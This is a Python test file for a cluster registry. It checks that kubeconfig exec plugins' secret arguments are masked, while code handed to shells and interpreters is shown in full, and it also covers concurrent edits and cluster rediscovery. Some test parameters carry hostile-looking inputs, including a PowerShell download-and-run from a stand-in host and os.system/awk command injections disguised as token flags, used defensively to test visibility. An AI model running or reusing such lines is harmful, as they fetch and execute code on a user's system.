"""Review 6 of the cluster registry: an ordinary exec plugin's secret values stay hidden in its
consent whatever its words (only a shell's or interpreter's code is shown in full); the
window's change of a cluster keeps its own health check and never loses another process's
edit to a wall clock stepped back; a cluster removed elsewhere is no failed discovery of its
name."""

from __future__ import annotations

import asyncio
import shlex
import time
from datetime import timedelta
from pathlib import Path

import pytest

from aiops_desktop.models import ClusterState
from aiops_desktop.models.registry import ClusterSecrets, ClusterSpec
from aiops_desktop.services.clusters import registry as registry_module
from aiops_desktop.services.clusters.kubeconfig import read_contexts
from aiops_desktop.services.clusters.registry import ClusterRegistry
from aiops_desktop.services.core import Core
from aiops_desktop.store.clusters import ClusterRepository
from collectors.errors import CollectorError
from tests.qtfree.test_discovery_review4 import FakeApi, serve
from tests.qtfree.test_registry_review5 import (
    ALERTS,
    PROM,
    SCRIPT,
    add_hub,
    exec_kubeconfig,
    other_process,
)

PASSWORD = "Sup3r;Secret-7781"
CLIENT_SECRET = "Ab;cd$(ef-9013"
STATIC = "kVq3-static-2210"


# -- 1: an ordinary plugin's secrets ---------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "args", "secret"),
    [
        # the Kubernetes client starts a plugin without a shell: ; $( ` are no code of it
        ("kubelogin", ["get-token", "--login", "ropc", "--password", PASSWORD], PASSWORD),
        ("kubelogin", ["get-token", f"--client-secret={CLIENT_SECRET}"], CLIENT_SECRET),
        # a word that names a shell is no shell that runs
        ("aws", ["eks", "get-token", f"--token={STATIC}", "--profile", "env"], STATIC),
        ("my-plugin", [f"--token={STATIC}", "--issuer", "https://idp.corp/realms/node"], STATIC),
        ("my-plugin", ["--server", f"https://bob:{PASSWORD}@idp.corp/"], PASSWORD),
        # a wrapper runs its program, an interpreter a script file: neither is code here
        ("/usr/bin/env", ["OIDC_DEBUG=1", "kubelogin", f"--client-secret={STATIC}"], STATIC),
        ("sudo", ["-u", "ops", "kubelogin", "--token", STATIC], STATIC),
        ("python3", ["/opt/get_token.py", f"--client-secret={STATIC}"], STATIC),
    ],
)
def test_an_ordinary_plugin_s_secret_values_stay_hidden(
    tmp_path: Path, command: str, args: list[str], secret: str
) -> None:
    (ctx,) = read_contexts(exec_kubeconfig(tmp_path, command, args))
    assert ctx.runs is not None and secret not in ctx.runs, ctx.runs
    assert "<hidden>" in ctx.runs and "secret values hidden" in ctx.runs, ctx.runs


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("env", ["-u", "HOME", "sudo", "-u", "root", "bash", "-c", "--", SCRIPT]),
        ("timeout", ["-s", "KILL", "30", "nice", "-n", "5", "sh", "-ec", SCRIPT]),
        ("sudo", ["-s", "kubelogin", SCRIPT]),  # run by the user's shell
        ("env", ["-S", f"sh -c {SCRIPT}"]),  # a command line of its own
        ("busybox", ["sh", "-c", SCRIPT]),
        ("python3", ["-W", "ignore", "-c", "--token=1 or __import__('os').system('id')"]),
        ("pwsh", ["-NoProfile", "-Command", "--token=1; iex (irm https://x.example)"]),
        ("awk", ["-v", "x=1", 'BEGIN { system("id") } --password=x']),
    ],
)
def test_the_code_a_wrapped_shell_or_interpreter_runs_is_never_hidden(
    tmp_path: Path, command: str, args: list[str]
) -> None:
    (ctx,) = read_contexts(exec_kubeconfig(tmp_path, command, args))
    assert ctx.runs is not None and "<hidden>" not in ctx.runs, ctx.runs
    assert shlex.quote(args[-1]) in ctx.runs, ctx.runs  # shown as it runs


def test_a_shell_s_script_arguments_stay_hidden(tmp_path: Path) -> None:
    """The script is code; an argument after it is the script's data, as a plugin's."""
    args = ["-c", 'exec kubelogin "$@"', "sh", f"--client-secret={STATIC}"]
    (ctx,) = read_contexts(exec_kubeconfig(tmp_path, "bash", args))
    assert ctx.runs is not None and shlex.quote(args[1]) in ctx.runs, ctx.runs
    assert STATIC not in ctx.runs and "--client-secret=<hidden>" in ctx.runs, ctx.runs


# -- 2: the window's health check, lost to a change on the stored row -----------------------------
@pytest.mark.asyncio
async def test_a_window_change_keeps_its_own_health_check(core: Core) -> None:
    """The CLI set the hub's Alertmanager; the window's health check and its poller's members
    are saved at once: the change edits the stored row (the CLI's endpoint kept) with the
    window's status, the check's result included."""
    await add_hub(core)
    cli = other_process(core)
    await cli.load()
    await cli.set_endpoint("acm-hub", ALERTS, "https://am.hub.example", use_cluster_token=True)
    results = {PROM: False, ALERTS: False}
    checked, _ = await asyncio.gather(
        core.registry.apply_check("acm-hub", results, ["prometheus: connection refused"]),
        core.registry.set_members("acm-hub", ["spoke-1"]),
    )
    assert checked.status.state is ClusterState.OFFLINE
    for cluster in (core.registry.get("acm-hub"), ClusterRepository(core.db).by_name("acm-hub")):
        assert cluster is not None
        assert cluster.status.state is ClusterState.OFFLINE, cluster.status
        assert cluster.status.last_check_at is not None and cluster.status.members == ["spoke-1"]
        assert sorted(e.kind for e in cluster.endpoints) == sorted([ALERTS, PROM])


# -- 3: a wall clock stepped back ----------------------------------------------------------------
@pytest.mark.asyncio
async def test_a_cli_edit_stamped_earlier_is_still_kept(
    core: Core, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The clock steps back 30 s (NTP, a VM resumed) after the window's last save: the CLI's
    set-endpoint is stamped earlier, and is still another's change, never saved over."""
    await add_hub(core)
    cli = other_process(core)
    await cli.load()
    await core.registry.set_members("acm-hub", ["spoke-1"])
    now = registry_module.utcnow
    monkeypatch.setattr(registry_module, "utcnow", lambda: now() - timedelta(seconds=30))
    await cli.set_endpoint("acm-hub", ALERTS, "https://am.hub.example", use_cluster_token=True)
    hub = await core.registry.set_members("acm-hub", ["spoke-1", "spoke-2"])
    stored = ClusterRepository(core.db).by_name("acm-hub")
    assert stored is not None and stored.status.members == ["spoke-1", "spoke-2"]
    assert sorted(e.kind for e in stored.endpoints) == sorted([ALERTS, PROM])
    assert hub == core.registry.get("acm-hub") and hub.endpoint(ALERTS) is not None


@pytest.mark.asyncio
async def test_changes_under_way_here_are_no_other_process_s(core: Core) -> None:
    """Two changes of this window at once: the second is made on the first (its save not yet
    committed), never on the row as stored before it."""
    await add_hub(core)
    await asyncio.gather(
        core.registry.set_endpoint("acm-hub", ALERTS, "https://am.hub.example",
                                   use_cluster_token=True),
        core.registry.set_members("acm-hub", ["spoke-1"]),
    )  # fmt: skip
    stored = ClusterRepository(core.db).by_name("acm-hub")
    assert stored is not None and stored.status.members == ["spoke-1"]
    assert stored.endpoint(ALERTS) is not None and stored == core.registry.get("acm-hub")


# -- 4: a cluster removed elsewhere, no failed discovery ------------------------------------------
API = "https://api.prod.example:6443"


async def add_prod(registry: ClusterRegistry) -> None:
    await registry.add(ClusterSpec(name="prod", api_server_url=API),
                       ClusterSecrets(token="sha256~prodTOKEN4xQ9mW2vLs7Rt"))  # fmt: skip


@pytest.mark.asyncio
async def test_a_cluster_the_cli_removed_and_added_again_is_discovered_at_once(
    core: Core, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = FakeApi("prod", slow=True)
    serve(core, monkeypatch, {API: api})
    await add_prod(core.registry)
    cli = other_process(core)
    await cli.load()
    running = asyncio.create_task(core.discovery._in_background("prod"))
    await asyncio.wait_for(api.asked.wait(), 5)
    await cli.remove("prod")
    await add_prod(cli)  # a new id, a new credential
    api.release.set()
    await asyncio.wait_for(running, 5)
    assert "prod" not in core.discovery.failed
    assert [c.name for c in await core.registry.adopt_added()] == ["prod"]
    assert core.discovery.due(time.monotonic()) == ["prod"]


@pytest.mark.asyncio
async def test_a_removed_cluster_s_failed_discovery_is_forgotten(
    core: Core, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Unreachable (a wrong URL), removed and registered again: discovered at once, not
    after the failed one's RETRY_AFTER_S."""

    async def unreachable(_cluster: object) -> FakeApi:
        raise CollectorError("connection refused")

    monkeypatch.setattr(core.pool, "kube", unreachable)
    await add_prod(core.registry)
    await core.discovery._in_background("prod")
    assert core.discovery.failed == {"prod"}
    await core.registry.remove("prod")
    assert core.discovery.failed == set()
    await add_prod(core.registry)
    assert core.discovery.due(time.monotonic()) == ["prod"]
